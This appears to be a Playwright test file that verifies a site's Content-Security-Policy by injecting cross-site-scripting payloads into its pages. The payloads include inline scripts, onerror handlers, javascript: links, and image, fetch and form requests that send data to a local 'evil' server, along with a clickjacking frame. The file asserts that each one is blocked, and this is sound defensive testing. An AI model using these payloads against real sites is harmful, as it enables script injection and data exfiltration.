/** The Content-Security-Policy in a browser: it lets everything of the site run, and nothing else. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { BrowserContext, Page } from '@playwright/test';
import { completeSignUp } from '../../support/sign-in/hosted-login-pages.ts';
import { expect, test } from '../support/fixtures.ts';
import { translationsOf } from '../support/translations.ts';

const t = translationsOf('en');

/** What the policy of any page of this browser has stopped so far, as the pages themselves are told. */
async function watchPolicy(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.exposeFunction('policyViolated', (violation: string) => void violations.push(violation));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      Reflect.get(window, 'policyViolated')(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return violations;
}

// threat-model: T-053, T-072
test('an ordinary visit goes against the policy nowhere, and asks nobody else for anything', async ({
  page,
  context,
  cloud,
  site,
}) => {
  const violations = await watchPolicy(context);
  const asked = new Set<string>();
  context.on('request', (request) => asked.add(new URL(request.url()).origin));
  await page.goto('/typography-demo');
  await page.getByRole('button', { name: t('theme.dark') }).click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.goto('/nowhere');
  await page.goto('/auth/sign-up?returnTo=/test-message');
  await completeSignUp(page, cloud, 'policy@example.com');
  await page.getByLabel(t('test-message:compose.label')).fill('within the policy');
  await page.getByRole('button', { name: t('test-message:compose.send') }).click();
  await expect(page.getByText(t('test-message:compose.sent'))).toBeVisible();
  for (const path of ['/ar', '/ja/typography-demo', '/hi/test-message', '/fr/nowhere']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
  }
  cloud.faults.set({ faults: [{ service: 'graphql', kind: 'status', status: 503 }] });
  await page.goto('/test-message');
  cloud.faults.set({});
  await page.goto('/');
  await page.getByRole('link', { name: t('nav.pages.test-message'), exact: true }).click();
  await expect(page.getByText('within the policy')).toBeVisible();
  await page.locator('summary').filter({ hasText: 'policy@example.com' }).click();
  await page.getByRole('button', { name: t('account.signOut') }).click();
  await expect(page.getByRole('banner').getByRole('link', { name: t('account.signIn') })).toBeVisible();
  expect(violations).toEqual([]);
  expect([...asked].sort()).toEqual([site.origin, cloud.origin].sort());
});

/** What somebody could do who got markup into a page, and the directive that is in the way. */
const injections: readonly [string, string, (page: Page, evil: string) => Promise<unknown>][] = [
  [
    'an inline script',
    'script-src-elem',
    (page) => insert(page, 'script', { textContent: 'window.ran = 1' }),
  ],
  [
    'an inline script with a nonce that is made up',
    'script-src-elem',
    (page) => insert(page, 'script', { textContent: 'window.ran = 1', nonce: 'made-up' }),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (page, evil) => insert(page, 'script', { src: `${evil}/run.js` }),
  ],
  [
    'a script in an address',
    'script-src-elem',
    (page) => insert(page, 'script', { src: 'data:text/javascript,window.ran=1' }),
  ],
  [
    'a handler in markup',
    'script-src-attr',
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 1">');
      }),
  ],
  [
    'a link that is a script',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<a id="link" href="javascript:window.ran = 1">x</a>');
        document.getElementById('link')?.click();
      }),
  ],
  ['text that is run', 'script-src', (page) => page.evaluate(() => setTimeout('window.ran = 1'))],
  ['a frame of another site', 'frame-src', (page, evil) => insert(page, 'iframe', { src: evil })],
  [
    'a picture that tells another site',
    'img-src',
    (page, evil) => insert(page, 'img', { src: `${evil}/told?secret` }),
  ],
  [
    'a request that tells another site',
    'connect-src',
    (page, evil) => page.evaluate((url) => void fetch(url).catch(() => {}), `${evil}/told`),
  ],
  [
    'a form for another site',
    'form-action',
    (page, evil) =>
      page.evaluate((action) => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<form id="form" method="post" action="${action}"></form>`,
        );
        document.querySelector<HTMLFormElement>('#form')?.submit();
      }, `${evil}/told`),
  ],
  ['another base for every address', 'base-uri', (page, evil) => insert(page, 'base', { href: `${evil}/` })],
  [
    'a style sheet of another site',
    'style-src-elem',
    (page, evil) => insert(page, 'link', { rel: 'stylesheet', href: `${evil}/a.css` }),
  ],
  [
    'an inline style sheet',
    'style-src-elem',
    (page) => insert(page, 'style', { textContent: 'body { display: none }' }),
  ],
];

function insert(page: Page, name: string, properties: Record<string, string>): Promise<void> {
  return page.evaluate(
    ([element, given]) => void document.head.append(Object.assign(document.createElement(element), given)),
    [name, properties] as const,
  );
}

test.describe('what got into a page', () => {
  // The browser says each of them on the console too.
  test.use({ expectedConsole: /Content Security Policy/ });

  for (const [path, kind] of [
    ['/fr', 'from memory'],
    ['/test-message', 'of somebody who is signed in'],
    ['/nowhere', 'that is none'],
  ] as const) {
    // threat-model: T-053
    test(`does nothing, and the policy says so: a page ${kind}`, async ({ page, context, cloud }) => {
      const asked: string[] = [];
      const evil = createServer((request, response) => {
        asked.push(request.url ?? '');
        response.end('window.ran = 1');
      }).listen(0, '127.0.0.1');
      await once(evil, 'listening');
      const address = evil.address();
      const evilOrigin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
      if (kind === 'of somebody who is signed in') {
        await page.goto('/auth/sign-up?returnTo=/test-message');
        await completeSignUp(page, cloud, 'injected@example.com');
      }
      const violations = await watchPolicy(context);
      for (const [what, directive, inject] of injections) {
        await page.goto(path);
        violations.length = 0;
        await inject(page, evilOrigin);
        await expect
          .poll(() => violations.map((violation) => violation.split(' ')[0]), what)
          .toEqual([directive]);
        expect(await page.evaluate(() => Reflect.get(window, 'ran')), what).toBeUndefined();
      }
      expect(asked).toEqual([]);
      evil.closeAllConnections();
      evil.close();
    });
  }
});

// threat-model: T-054
test('no page of the site stands in a frame of another', async ({ page, context, site, cloud }) => {
  await page.goto('/auth/sign-up?returnTo=/test-message');
  await completeSignUp(page, cloud, 'framed@example.com');
  const evil = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>evil</title><iframe src="${site.origin}/test-message"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(evil, 'listening');
  const address = evil.address();
  const other = await context.newPage();
  await other.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`);
  await other.waitForLoadState('networkidle');
  const [, frame] = other.frames();
  expect(frame?.url()).toMatch(/^(chrome-error:|about:blank$)/);
  evil.closeAllConnections();
  evil.close();
});
